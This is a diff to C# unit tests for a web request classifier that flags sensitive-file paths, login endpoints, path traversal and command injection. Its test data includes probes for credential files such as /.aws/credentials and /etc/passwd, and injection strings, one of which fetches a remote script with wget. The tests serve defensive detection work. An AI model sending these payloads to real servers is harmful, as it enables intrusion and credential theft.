@@ -28,7 +28,10 @@ public sealed class RequestClassifierTests
     [InlineData("/server-status")]
     [InlineData("/actuator/env")]
     [InlineData("/.aws/credentials")]
-    [InlineData("/config.json")]
+    [InlineData("/credentials.json")]
+    [InlineData("/.env/")]
+    [InlineData("/wp-config.php.bak/")]
+    [InlineData("/invoker/")]
     [InlineData("/web.config")]
     [InlineData("/etc/passwd")]
     [InlineData("/manager/html")]
@@ -37,6 +40,19 @@ public sealed class RequestClassifierTests
         var traits = Classify(path);
 
         Assert.True(traits.HasFlag(RequestTraits.SensitivePath), path);
+    }
+
+    [Theory]
+    [InlineData("/assets/config.json")]
+    [InlineData("/config.json")]
+    [InlineData("/docs/config.yaml")]
+    [InlineData("/products/18423/")]
+    public void Classify_FileThatSitesServe_NoSensitivePath(string path)
+    {
+        // Single-page apps load their settings from config.json on every page view.
+        var traits = Classify(path);
+
+        Assert.False(traits.HasFlag(RequestTraits.SensitivePath), path);
     }
 
     [Theory]
@@ -55,6 +71,7 @@ public sealed class RequestClassifierTests
     [InlineData("/sign-up/")]
     [InlineData("/user/register")]
     [InlineData("/account/registration.php")]
+    [InlineData("/wp-login.php/")]
     public void Classify_LoginPath_FlagsLoginEndpoint(string path)
     {
         var traits = Classify(path);
@@ -129,7 +146,13 @@ public sealed class RequestClassifierTests
     [InlineData("/scripts/..%c1%1c../winnt", RequestTraits.PathTraversal)]
     [InlineData("/view?file=/etc/passwd", RequestTraits.PathTraversal)]
     [InlineData("/ping?host=1.1.1.1;cat%20/etc/shadow", RequestTraits.CommandInjection)]
-    [InlineData("/ping?host=x|id", RequestTraits.CommandInjection)]
+    [InlineData("/ping?host=127.0.0.1|id", RequestTraits.CommandInjection)]
+    [InlineData("/ping?host=1;%20id", RequestTraits.CommandInjection)]
+    [InlineData("/ping?host=';id", RequestTraits.CommandInjection)]
+    [InlineData("/ping?cmd=;id", RequestTraits.CommandInjection)]
+    [InlineData("/ping?host=x|ls%20-la", RequestTraits.CommandInjection)]
+    [InlineData("/ping?host=x;wget%20http://203.0.113.9/a.sh", RequestTraits.CommandInjection)]
+    [InlineData("/ping?host=x&&id", RequestTraits.CommandInjection)]
     [InlineData("/ping?host=$(whoami)", RequestTraits.CommandInjection)]
     [InlineData("/ping?host=`id`", RequestTraits.CommandInjection)]
     [InlineData("/scripts/root.exe?/c+dir", RequestTraits.CommandInjection)]
@@ -151,6 +174,11 @@ public sealed class RequestClassifierTests
     [InlineData("/news/2024/o'reilly-books")]
     [InlineData("/static/app.min.js")]
     [InlineData("/etc-and-more/passwords")]
+    [InlineData("/api/users?fields=name|id")]
+    [InlineData("/api/users?sort=name;id")]
+    [InlineData("/report?cols=date|ping|latency")]
+    [InlineData("/search?q=rock|cat")]
+    [InlineData("/search?q=rock|cat+videos")]
     public void Classify_OrdinaryTarget_NoAttackTrait(string rawTarget)
     {
         var traits = Classify(rawTarget);
